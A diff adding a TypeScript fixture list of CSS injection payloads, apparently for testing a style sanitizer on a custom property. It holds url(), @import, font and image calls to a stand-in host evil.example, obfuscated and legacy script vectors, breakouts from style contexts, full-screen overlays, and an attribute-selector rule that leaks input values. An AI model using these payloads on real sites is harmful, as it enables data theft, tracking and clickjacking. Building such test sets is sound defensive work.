@@ -1,0 +1,73 @@
+// Style that would load, cover or spy, if a text ever came into a style sheet, a `style` attribute or a custom property.
+
+const evil = 'https://evil.example/';
+
+const values = [
+  `url(${evil})`,
+  `url(//evil.example)`,
+  `url("${evil}")`,
+  `url('javascript:sentinel(1)')`,
+  `u\\rl(${evil})`,
+  `\\75 rl(${evil})`,
+  `src("${evil}")`,
+  `image(url(${evil}))`,
+  `image-set("${evil}" 1x)`,
+  `-webkit-image-set(url(${evil}) 1x)`,
+  `cross-fade(url(${evil}), red)`,
+  `element(#title)`,
+  `paint(evil)`,
+  `expression(sentinel(1))`,
+  `ex/**/pression(sentinel(1))`,
+  `expr\\65 ssion(sentinel(1))`,
+  `attr(href url, url(${evil}))`,
+  `var(--x, url(${evil}))`,
+  `env(x, url(${evil}))`,
+  `if(style(--x: 1): url(${evil}); else: red)`,
+  `red; background: url(${evil})`,
+  `red } * { background: url(${evil}) }`,
+  `red !important`,
+  `inherit; position: fixed; inset: 0; z-index: 2147483647`,
+];
+
+const sheets = [
+  `} * { background: url(${evil}) } x {`,
+  `} :host { position: fixed; inset: 0 } x {`,
+  `} :host-context(body) { display: none } x {`,
+  `} ::slotted(*) { display: none } x {`,
+  `} input[value^=a] { background: url(${evil}a) } x {`,
+  `} @import '${evil}'; x {`,
+  `@import url(${evil});`,
+  `@import '${evil}' layer(x) supports(display: grid);`,
+  `@charset "utf-7";`,
+  `@namespace x url(${evil});`,
+  `@font-face { font-family: x; src: url(${evil}); unicode-range: U+41 }`,
+  `@property --x { syntax: '<url>'; inherits: true; initial-value: url(${evil}) }`,
+  `@container (min-width: 1px) { * { content: url(${evil}) } }`,
+  `@keyframes x { from { background: url(${evil}) } }`,
+  `@page { @top-left { content: url(${evil}) } }`,
+  `@document url(${evil}) { * { color: red } }`,
+  `<style>* { background: url(${evil}) }</style>`,
+  `<style>@import '${evil}';</style>`,
+  `</style><style>* { display: none }</style>`,
+  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
+  `<b style="background: url(${evil})">x</b>`,
+  `<b style="behavior: url(${evil}x.htc)">x</b>`,
+  `<b style="-moz-binding: url(${evil}x.xml#x)">x</b>`,
+  `<b style="position: fixed; inset: 0; opacity: 0">x</b>`,
+  `"; background: url(${evil}); x: "`,
+  `'); background: url(${evil}); x: ('`,
+  `*/ } * { background: url(${evil}) } /*`,
+  `<!-- } * { background: url(${evil}) } -->`,
+  `\\27 ; background: url(${evil}); x: \\27`,
+  `\\00007d * { background: url(${evil}) }`,
+  `{}`,
+  `;}`,
+  `:host{display:none!important}`,
+  `part(title){display:none}`,
+];
+
+/** CSS. */
+export const css: readonly string[] = [
+  ...values.map((value) => `--advisor-accent-color: ${value}`),
+  ...sheets,
+];
